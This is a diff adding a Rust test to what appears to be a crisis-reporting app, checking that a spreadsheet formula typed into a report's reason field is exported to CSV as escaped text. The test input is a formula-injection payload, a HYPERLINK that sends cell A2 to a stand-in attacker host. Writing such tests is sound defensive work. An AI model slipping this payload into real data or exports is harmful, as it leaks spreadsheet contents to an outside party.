@@ -143,3 +143,56 @@ async fn the_export_holds_every_version() {
         lines[2]
     );
 }
+
+/// A commune's reason that a spreadsheet would run as a formula reaches the
+/// crisis cell's export as text (`'=…`), never as a formula.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_in_a_reason_is_exported_as_text() {
+    let app = TestApp::start().await;
+    let mayor = app.issue(Role::Commune, Some("56260")).await;
+    let prefecture_code = app.issue(Role::Prefecture, None).await;
+    let first = app
+        .post_json(
+            "/api/v1/reports",
+            Some(&mayor),
+            &report_body("56260", "2020-04-01", [3, 1, 0, 0, 0]),
+            &[],
+        )
+        .await;
+    assert_eq!(first.status, StatusCode::CREATED, "{}", first.text);
+    let formula = "=HYPERLINK(\"https://attaquant.example/?\"&A2,\"Détails\")";
+    let mut correction = report_body("56260", "2020-04-01", [2, 1, 0, 0, 0]);
+    correction["replaces_version"] = json!(1);
+    correction["reason"] = json!(formula);
+    let stored = app
+        .post_json("/api/v1/reports", Some(&mayor), &correction, &[])
+        .await;
+    assert_eq!(stored.status, StatusCode::CREATED, "{}", stored.text);
+    assert_eq!(
+        stored.json()["reason"],
+        formula,
+        "the store keeps what was typed"
+    );
+
+    let mut browser = Browser::new(&app);
+    browser.login(&prefecture_code).await;
+    let export = browser.get("/prefecture/export.csv").await;
+    assert_eq!(export.status, StatusCode::OK);
+    let mut reader = csv_reader(&export.text);
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.expect("csv row").iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(rows.len(), 2);
+    assert_eq!(rows[1][8], format!("'{formula}"));
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell}"
+        );
+    }
+}
+
+fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
+    csv::Reader::from_reader(text.as_bytes())
+}
